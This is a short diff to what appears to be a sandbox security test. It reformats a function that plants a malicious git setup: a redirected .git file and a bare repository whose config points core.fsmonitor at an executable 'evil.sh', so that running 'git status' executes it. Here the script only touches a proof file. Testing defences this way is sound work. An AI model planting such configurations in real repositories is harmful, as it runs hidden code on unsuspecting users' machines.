@@ -1,4 +1,5 @@
-"""Replaces a worktree's `.git` file, or a missing .git, by one that names a repository of the attacker's.
+"""Replaces a worktree's `.git` file, or a missing .git, by one that names a repository of the
+attacker's.
 
 layer: protect
 control: without a sandbox the operator's `git status` runs the attacker's program
@@ -19,7 +20,8 @@ def attack(a):
     put("evil.sh", f"#!/bin/sh\ntouch {a['proof']}\n")
     os.chmod("evil.sh", 0o755)
     subprocess.run(["git", "init", "-q", "--bare", "build"], check=True)
-    put("build/config", f"[core]\n\tbare = false\n\tworktree = {a['ws']}/sub\n\tfsmonitor = {a['ws']}/evil.sh\n")
+    put("build/config", f"[core]\n\tbare = false\n\tworktree = {a['ws']}/sub\n"
+        f"\tfsmonitor = {a['ws']}/evil.sh\n")
     put("sub/.git", "gitdir: ../build\n")
     put(".git", "gitdir: build\n")
 
